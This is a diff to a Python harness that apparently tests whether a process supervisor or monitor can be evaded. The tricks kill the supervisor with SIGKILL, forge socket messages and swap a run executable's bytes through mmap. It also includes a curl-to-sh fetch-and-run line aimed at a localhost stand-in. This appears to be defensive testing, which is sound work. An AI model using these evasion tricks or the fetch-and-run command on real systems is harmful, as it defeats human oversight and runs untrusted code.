@@ -20,7 +20,7 @@ import time
 from pathlib import Path
 
 PERL = os.path.realpath("/usr/bin/perl")
-CODE = 'open my $f, ">", "MARK"'
+CODE = 'open my $f, ">", "MARK"' + os.environ.get("THEN", "")
 WORDS = ["perl", "-e", CODE]
 TRICKS = {}
 libc = ctypes.CDLL(None, use_errno=True)
@@ -60,7 +60,9 @@ def parent_of(pid):
     return int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
 
 
-SUPERVISOR, MAIN = os.getppid(), os.getpid()
+SUPERVISOR, MAIN = int(os.environ.get("WATCHER") or os.getppid()), os.getpid()
+FRONT = SUPERVISOR if "WATCHER" in os.environ else parent_of(SUPERVISOR)
+"""Where the build is watched, and not run by it, both are the process that watches: nothing else is ever reached for."""
 
 
 def on_nine(path=PERL):
@@ -100,7 +102,7 @@ def stop():
 
 @trick("supervisor", "kill -9 of the process that the user started")
 def kill_front():
-    send(signal.SIGKILL, parent_of(SUPERVISOR))
+    send(signal.SIGKILL, FRONT)
 
 
 @trick("supervisor", "kill -9 of the supervisor's process group")
@@ -110,9 +112,8 @@ def kill_group():
 
 @trick("supervisor", "kill -9 of both")
 def kill_both():
-    front = parent_of(SUPERVISOR)
     with contextlib.suppress(OSError):
-        os.kill(front, signal.SIGKILL)
+        os.kill(FRONT, signal.SIGKILL)
     send(signal.SIGKILL)
 
 
@@ -295,7 +296,7 @@ def forge_message():
         if os.readlink(f"/proc/self/fd/{found}").startswith("socket:"):
             with contextlib.suppress(OSError), socket.socket(fileno=found) as channel:
                 channel.send(b"S0")
-    for pid in (SUPERVISOR, parent_of(SUPERVISOR)):
+    for pid in (SUPERVISOR, FRONT):
         with contextlib.suppress(OSError):
             os.kill(pid, signal.SIGCHLD)
     time.sleep(0.3)
@@ -659,6 +660,24 @@ def changed_by_mapping(path):
         execute(path)
 
 
+@trick("file", "a file in memory that was run before, then changed by a mapping")
+def mapped_after_a_run():
+    path = f"/dev/shm/flycatcher-test-{os.getpid()}"
+    data, harmless = Path(PERL).read_bytes(), Path("/bin/true").read_bytes()
+    try:
+        Path(path).write_bytes(harmless + bytes(len(data) - len(harmless)))
+        os.chmod(path, 0o755)
+        time.sleep(0.2)
+        for _ in range(3):
+            execute(path, ["true"])
+        time.sleep(0.5)
+        with open(path, "r+b") as handle, mmap.mmap(handle.fileno(), 0) as memory:
+            memory[: len(data)] = data
+        execute(path)
+    finally:
+        os.unlink(path)
+
+
 # -- text that is not seen whole
 
 EVIL = 'open my $f, ">", "MARK"; system("curl http://127.0.0.1:9/x | sh");'
@@ -711,6 +730,11 @@ def small_pieces():
     os.waitpid(pid, 0)
 
 
+def called(name):
+    """Return what a trick's process is called, by which its descendants' records are told apart."""
+    return f"trick-{list(TRICKS).index(name)}"
+
+
 def main(names):
     """Play one trick after the other, each in a folder and a process of its own."""
     for name in names:
@@ -718,6 +742,7 @@ def main(names):
         pid = os.fork()
         if pid == 0:
             os.chdir(name)
+            Path("/proc/self/comm").write_text(called(name))
             TRICKS[name][2]()
             os._exit(0)
         os.waitpid(pid, 0)
